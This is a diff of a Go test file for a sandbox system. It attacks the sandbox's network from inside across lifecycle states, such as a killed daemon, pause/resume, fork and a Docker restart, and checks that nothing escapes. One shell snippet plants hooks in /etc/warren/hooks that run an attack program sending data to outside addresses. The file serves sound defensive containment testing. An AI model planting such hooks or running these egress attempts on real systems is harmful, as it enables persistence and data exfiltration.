@@ -12,6 +12,7 @@ import (
 	"fmt"
 	"io"
 	"io/fs"
+	"maps"
 	"net"
 	"net/netip"
 	"os"
@@ -26,6 +27,7 @@ import (
 	"time"
 
 	"github.com/warren-sandbox/warren"
+	"github.com/warren-sandbox/warren/driver/docker/dockertest"
 	"github.com/warren-sandbox/warren/driver/drivertest/egress"
 	"github.com/warren-sandbox/warren/internal/secret/secrettest"
 	"github.com/warren-sandbox/warren/internal/testenv"
@@ -62,15 +64,21 @@ func attackProgram(t *testing.T, n *internet) string {
 func labHome(t *testing.T, n *internet) *home {
 	t.Helper()
 	h := newHome(t)
+	h.env = h.inInternet(n)
+	return h
+}
+
+// inInternet returns the environment of programs that are in an internet.
+func (h *home) inInternet(n *internet) []string {
+	h.t.Helper()
 	roots := filepath.Join(h.dir, "lab-roots.pem")
 	if err := os.WriteFile(roots, n.roots, 0o644); err != nil {
-		t.Fatal(err)
+		h.t.Fatal(err)
 	}
 	if err := os.MkdirAll(filepath.Join(h.dir, "policies"), 0o755); err != nil {
-		t.Fatal(err)
+		h.t.Fatal(err)
 	}
-	h.env = []string{"WARREN_GATEWAY_RESOLVER=" + egress.DNS + ":53", "WARREN_GATEWAY_ROOTS=" + roots}
-	return h
+	return []string{"WARREN_GATEWAY_RESOLVER=" + egress.DNS + ":53", "WARREN_GATEWAY_ROOTS=" + roots}
 }
 
 // policy writes a policy of the daemon's.
@@ -294,85 +302,145 @@ func TestEgressTwin(t *testing.T) {
 	}
 }
 
-// TestEgressStates attacks the network of a sandbox from inside, in each state that a sandbox comes into, and counts what arrives anywhere: nothing.
-// In TestEgressTwin everything arrives.
-func TestEgressStates(t *testing.T) {
-	n := newInternet(t)
-	dir := attackProgram(t, n)
-	n.watch(bankKeys...)
-	h := labHome(t, n)
+// siege is a sandbox that is attacked in each state that it comes into.
+type siege struct {
+	h   *home
+	n   *internet
+	dir string // with the program that attacks
+	// create are the arguments of create that say which driver and image.
+	create []string
+	// barred are what nobody inside can begin with, by case, since the kernel or its filter refuses; they are tried all the same.
+	barred map[string][]string
+	table  *stateTable
+	last   int64 // number of a record before the attacks of this state
+}
+
+// What the kernels inside refuse to root there. Under gVisor it has no raw sockets but for ICMP, may not change the card, and gets no new mounts or processes'
+// namespaces but in a user namespace of its own. Under runc it has none of the capabilities that these would take (see the package docker), and /proc/sys is read-only.
+var (
+	gvisorBars = map[string][]string{
+		"B05": {"ESP", "GRE", "IGMP", "IPIP", "SCTP", "a raw segment of TCP", "an unknown protocol"},
+		"B22": {"a container within", "new namespaces"},
+		"B34": {"a datagram from another block", "a datagram from the gateway's address", "a frame past the stack", "an address of another block", "the address of a neighbour"},
+		"B35": {"a route of its own"},
+	}
+	runcBars = map[string][]string{
+		"B05": {"ESP", "GRE", "ICMP echo", "ICMP echo to an allowed host", "ICMPv6 echo", "IGMP", "IPIP", "SCTP", "a raw segment of TCP", "an unknown protocol"},
+		"B22": {"a container within", "a user's container within", "new namespaces"},
+		"B34": gvisorBars["B34"],
+		"B35": {"a route of its own", "forwarding"},
+	}
+)
+
+// egressState is a state that an attacked sandbox comes into.
+type egressState struct {
+	name, sandbox string
+	enter         func()
+	// anew says that its processes began anew, and hooked that the hooks of what comes back ran.
+	anew, hooked bool
+}
+
+// where is the directory of the program that attacks, which a restart leaves.
+const where = "/tmp/lab"
+
+// begin makes the sandbox that is attacked, and one whose policy grants it nothing.
+func (s *siege) begin() {
+	h, n := s.h, s.n
 	h.policy("lab", egressPolicy(""))
 	h.policy("bare", "allow:\n  - {host: "+egress.Bank+", inspect: true}\n")
 	h.setSecret(n, bankKeys[0])
-	h.inLab(n, "create", "--name", "bare", "--policy", "bare")
-	h.inLab(n, "cp", dir, "bare:/tmp/lab")
-	h.inLab(n, "create", "--name", "s", "--policy", "lab")
-	h.inLab(n, "cp", dir, "s:/tmp/lab")
+	for name, policy := range map[string]string{"bare": "bare", "s": "lab"} {
+		h.inLab(n, append([]string{"create", "--name", name, "--policy", policy}, s.create...)...)
+		h.inLab(n, "cp", s.dir, name+":"+where)
+	}
 	n.signs()
-	// Hooks of the image's are tried by what the sandbox is told that it has come back (B22). What they may reach says that they ran.
-	h.inLab(n, "exec", "-u", "root", "s", "--", "sh", "-ec", `for d in resume.d fork.d; do
+	s.table = &stateTable{results: map[string]map[string]string{}}
+}
+
+// spray has one process send all the while, also where the test waits for the next state.
+func (s *siege) spray(sandbox string) {
+	s.h.inLab(s.n, "exec", "-d", "-u", "root", sandbox, "--", where+"/attack", "spray")
+}
+
+// hook has hooks of the image's try by what the sandbox is told that it has come back (B22). What they may reach says that they ran.
+func (s *siege) hook(sandbox string) {
+	s.h.inLab(s.n, "exec", "-u", "root", sandbox, "--", "sh", "-ec", `for d in resume.d fork.d; do
 	mkdir -p /etc/warren/hooks/$d
 	printf '#!/bin/sh\n/tmp/lab/attack send 11.6.22.20:443 canary-b22-hook\n/tmp/lab/attack send %s:80 "GET / HTTP/1.0\r\nHost: %s\r\n\r\n"\n' "$1" "$1" >/etc/warren/hooks/$d/10-attack
 	chmod 755 /etc/warren/hooks/$d/10-attack
 done`, "sh", egress.Plain)
-	// One process sends all the while, also where the test waits for the next state.
-	h.inLab(n, "exec", "-d", "-u", "root", "s", "--", "/tmp/lab/attack", "spray")
+}
 
-	table := &stateTable{results: map[string]map[string]string{}}
-	attack := func(t *testing.T, state, sandbox string) {
-		began := time.Now()
-		r := parseReport(t, h.inLab(n, "exec", "-u", "root", sandbox, "--", "/tmp/lab/attack", "run"))
-		if len(r.Tries) < 500 {
-			t.Errorf("only %d tries", len(r.Tries))
-		}
-		seen := n.signs()
-		n.found(r, seen)
-		controlled(t, r)
-		n.charged(t, r, seen)
-		bad := verdict(r, seen)
-		for id, list := range bad {
-			for _, what := range list {
-				t.Errorf("%s: %s", id, what)
-			}
-		}
-		table.add(state, r, bad)
-		t.Run("C19", func(t *testing.T) { h.rotation(t, n, sandbox) })
-		t.Run("C20", func(t *testing.T) { h.stranger(t, n, sandbox) })
-		t.Logf("%d tries in %v", len(r.Tries), time.Since(began).Round(time.Millisecond))
+// attack makes all tries in a state, and counts what arrives.
+func (s *siege) attack(t *testing.T, state, sandbox string) {
+	h, n := s.h, s.n
+	began := time.Now()
+	before := h.flowsAfter(n, sandbox, s.last)
+	r := parseReport(t, h.inLab(n, "exec", "-u", "root", sandbox, "--", where+"/attack", "run"))
+	if len(r.Tries) < 500 {
+		t.Errorf("only %d tries", len(r.Tries))
 	}
-	for _, s := range []struct {
-		name, sandbox string
-		enter         func()
-	}{
-		{"fresh", "s", func() {}},
-		{"daemon killed", "s", func() {
-			p, err := os.FindProcess(h.daemon())
-			if err == nil {
-				err = p.Kill()
+	seen := n.signs()
+	n.found(r, seen)
+	controlled(t, r)
+	n.charged(t, r, seen)
+	bad := verdict(r, seen)
+	for id, list := range bad {
+		for _, what := range list {
+			t.Errorf("%s: %s", id, what)
+		}
+	}
+	s.stopped(t, r)
+	if len(before) > 0 {
+		s.last = before[len(before)-1].Seq
+	}
+	s.recorded(t, r, h.flowsAfter(n, sandbox, s.last))
+	s.table.add(state, r, bad)
+	t.Run("C19", func(t *testing.T) { h.rotation(t, n, sandbox) })
+	t.Run("C20", func(t *testing.T) { h.stranger(t, n, sandbox) })
+	t.Logf("%d tries in %v", len(r.Tries), time.Since(began).Round(time.Millisecond))
+}
+
+// stopped checks which tries the kernel inside did not let begin. All others have come to the gateway, so that it is the gateway that has stopped them.
+func (s *siege) stopped(t *testing.T, r egress.Report) {
+	t.Helper()
+	got := map[string][]string{}
+	for _, try := range r.Tries {
+		for _, refusal := range []string{"operation not permitted", "permission denied", "protocol not supported", "not supported by protocol", "read-only file system"} {
+			if strings.Contains(try.Got, refusal) {
+				got[try.Case] = append(got[try.Case], try.What)
+				break
 			}
-			if err != nil {
-				t.Fatal(err)
+		}
+	}
+	for id := range got {
+		slices.Sort(got[id])
+	}
+	if !maps.EqualFunc(got, s.barred, slices.Equal) {
+		t.Errorf("the kernel inside refuses %q, want %q", got, s.barred)
+	}
+}
+
+// run attacks in each state, and prints the table.
+func (s *siege) run(t *testing.T, states []egressState) {
+	for _, st := range states {
+		t.Run(st.name, func(t *testing.T) {
+			st.enter()
+			if st.anew {
+				s.h.inLab(s.n, "exec", "-u", "root", st.sandbox, "--", "rm", "-rf", where, "/tmp/sprayed")
+				s.h.inLab(s.n, "cp", s.dir, st.sandbox+":"+where)
+				s.spray(st.sandbox)
 			}
-		}},
-		{"resumed", "s", func() { h.inLab(n, "pause", "s"); h.inLab(n, "resume", "s") }},
-		{"reloaded", "s", func() {
-			h.policy("lab", egressPolicy("  - {name: one more, host: more.lab}\n"))
-			h.waitRecord(n, "policy.change")
-		}},
-		{"gateway killed", "s", func() { h.killGateway(); h.waitControl(n, "s") }},
-		{"forked", "child", func() { h.inLab(n, "fork", "s", "--name", "child") }},
-	} {
-		t.Run(s.name, func(t *testing.T) {
-			s.enter()
-			if s.name == "resumed" || s.name == "forked" {
-				if log := h.inLab(n, "exec", "-u", "root", s.sandbox, "--", "cat", "/run/warren/hooks.log"); !strings.Contains(log, egress.Plain+" is here") {
+			if st.hooked {
+				if log := s.h.inLab(s.n, "exec", "-u", "root", st.sandbox, "--", "cat", "/run/warren/hooks.log"); !strings.Contains(log, "200 OK") {
 					t.Errorf("B22: the hook that attacks did not run: %q", log)
 				}
 			}
-			attack(t, s.name, s.sandbox)
+			s.attack(t, st.name, st.sandbox)
 			// It went on.
-			before := h.inLab(n, "exec", s.sandbox, "--", "cat", "/tmp/sprayed")
-			for i := 0; h.inLab(n, "exec", s.sandbox, "--", "cat", "/tmp/sprayed") == before; i++ {
+			sprayed := func() string { return s.h.inLab(s.n, "exec", st.sandbox, "--", "sh", "-c", "cat /tmp/sprayed || :") }
+			before := sprayed()
+			for i := 0; sprayed() == before; i++ {
 				if i == 100 {
 					t.Fatalf("the process that sends all the while has ended after %s rounds", before)
 				}
@@ -380,7 +448,71 @@ done`, "sh", egress.Plain)
 			}
 		})
 	}
-	table.print(t)
+	s.table.print(t)
+}
+
+// killDaemon kills the daemon with SIGKILL.
+func (h *home) killDaemon() {
+	h.t.Helper()
+	if err := syscall.Kill(h.daemon(), syscall.SIGKILL); err != nil {
+		h.t.Fatal(err)
+	}
+}
+
+// TestEgressStates attacks the network of a sandbox from inside, in each state that a sandbox comes into, and counts what arrives anywhere: nothing.
+// In TestEgressTwin everything arrives.
+func TestEgressStates(t *testing.T) {
+	n := newInternet(t)
+	dir := attackProgram(t, n)
+	n.watch(bankKeys...)
+	h := labHome(t, n)
+	h.env = append(h.env, recordAll)
+	s := &siege{h: h, n: n, dir: dir, barred: gvisorBars}
+	s.begin()
+	s.hook("s")
+	s.spray("s")
+	s.run(t, []egressState{
+		{name: "fresh", sandbox: "s", enter: func() {}},
+		{name: "daemon killed", sandbox: "s", enter: h.killDaemon},
+		{name: "resumed", sandbox: "s", hooked: true, enter: func() { h.inLab(n, "pause", "s"); h.inLab(n, "resume", "s") }},
+		{name: "reloaded", sandbox: "s", enter: func() { s.reload() }},
+		{name: "gateway killed", sandbox: "s", enter: func() { h.killGateway(); h.waitControl(n, "s") }},
+		{name: "forked", sandbox: "child", hooked: true, enter: func() { h.inLab(n, "fork", "s", "--name", "child") }},
+	})
+}
+
+// reload changes the policy.
+func (s *siege) reload() {
+	s.h.policy("lab", egressPolicy("  - {name: one more, host: more.lab}\n"))
+	s.h.waitRecord(s.n, "policy.change")
+}
+
+// TestDockerEgressStates is TestEgressStates for containers, whose programs call the host's kernel. They have no memory to be paused with, so a restart and a
+// fork begin their processes anew. All states run with WARREN_SOAK.
+func TestDockerEgressStates(t *testing.T) {
+	testenv.NeedsTUN(t)
+	n := newInternet(t)
+	dir := attackProgram(t, n)
+	n.watch(bankKeys...)
+	h, _ := startDockerHome(t)
+	h.env = append(append(h.env, h.inInternet(n)...), recordAll)
+	s := &siege{h: h, n: n, dir: dir, create: []string{"--driver", "docker", "--image", dockertest.ImageName}, barred: runcBars}
+	s.begin()
+	s.spray("s")
+	states := []egressState{
+		{name: "fresh", sandbox: "s", enter: func() {}},
+		{name: "both killed", sandbox: "s", enter: func() { h.killDaemon(); h.killGateway(); h.inLab(n, "ls"); h.waitControl(n, "s") }},
+		{name: "reloaded", sandbox: "s", enter: s.reload},
+		{name: "restarted", sandbox: "s", anew: true, enter: func() { h.inLab(n, "restart", "s") }},
+	}
+	if testenv.Soak() {
+		states = append(states, []egressState{
+			{name: "daemon killed", sandbox: "s", enter: h.killDaemon},
+			{name: "gateway killed", sandbox: "s", enter: func() { h.killGateway(); h.waitControl(n, "s") }},
+			{name: "forked", sandbox: "child", anew: true, enter: func() { h.inLab(n, "fork", "s", "--name", "child") }},
+		}...)
+	}
+	s.run(t, states)
 }
 
 // setSecret gives the secret a value.
